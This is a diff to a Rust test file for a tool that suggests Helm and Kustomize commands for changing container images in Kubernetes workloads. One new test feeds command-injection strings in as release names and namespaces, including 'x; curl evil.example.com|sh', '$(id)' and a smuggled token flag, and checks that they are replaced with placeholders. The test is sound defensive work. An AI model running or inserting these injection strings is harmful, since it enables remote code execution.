@@ -41,10 +41,13 @@ fn kustomization() -> Value {
 fn each_tool_is_told_in_its_own_words() {
     let helm = json!({"meta.helm.sh/release-name": "r", "meta.helm.sh/release-namespace": "n"});
     let advised = advice(&json!({}), &helm, &container());
-    assert!(
-        advised.how.contains("helm upgrade r -n n --post-renderer"),
-        "{}",
-        advised.how
+    assert_eq!(
+        advised.commands,
+        [
+            "printf '#!/bin/sh\\ncd \"$(dirname \"$0\")\" && cat > rendered.yaml && kubectl kustomize .\\n' > kustomize.sh",
+            "chmod +x kustomize.sh",
+            "helm upgrade r CHART -n n --reuse-values --post-renderer ./kustomize.sh",
+        ]
     );
     let mut complete = kustomization();
     complete["resources"] = json!(["rendered.yaml"]);
@@ -105,4 +108,58 @@ fn rancher_is_told_by_what_it_deploys_from() {
     let advised = advice(&json!({}), &addon, &container());
     assert!(advised.how.contains("server/manifests"), "{}", advised.how);
     assert_eq!(advised.to_commit(), kustomization());
+}
+
+#[test]
+fn a_command_holds_no_words_of_others() {
+    let chart = json!({"helm.sh/chart": "rancher-monitoring-103.0.3"});
+    let own = json!({"name": "c", "image": "rancher/mirrored-grafana:1"});
+    let commands = |release: &str, namespace: &str| {
+        let marks = json!({"meta.helm.sh/release-name": release, "meta.helm.sh/release-namespace": namespace});
+        advice(&chart, &marks, &own).commands
+    };
+    assert_eq!(
+        commands("web.v2", "shop-1"),
+        ["helm upgrade web.v2 CHART -n shop-1 --reuse-values -f values.yaml"]
+    );
+    for hostile in [
+        "x; curl evil.example.com|sh",
+        "$(id)",
+        "--kube-token=x",
+        "a\nb",
+        "A",
+        "`id`",
+    ] {
+        assert_eq!(
+            commands(hostile, hostile),
+            ["helm upgrade RELEASE CHART -n NAMESPACE --reuse-values -f values.yaml"]
+        );
+    }
+    // No other tool is driven by commands.
+    for mark in [
+        json!({"argocd.argoproj.io/instance": "x; id"}),
+        json!({"kustomize.toolkit.fluxcd.io/name": "x; id"}),
+        json!({"olm.owner": "x; id"}),
+    ] {
+        assert!(
+            advice(&mark, &json!({}), &container()).commands.is_empty(),
+            "{mark}"
+        );
+    }
+}
+
+#[test]
+fn a_hook_is_left_to_the_chart() {
+    let helm = json!({"meta.helm.sh/release-name": "r", "helm.sh/hook": "pre-upgrade"});
+    let advised = advice(
+        &json!({"app.kubernetes.io/managed-by": "Helm"}),
+        &helm,
+        &container(),
+    );
+    assert_eq!(
+        advised.how,
+        "it is a hook of a chart, and Helm 3 keeps hooks from a post-renderer: find the chart's values that set these images, or change the chart"
+    );
+    assert!(advised.commands.is_empty() && advised.source.is_none());
+    assert_eq!(advised.to_commit(), json!([]));
 }
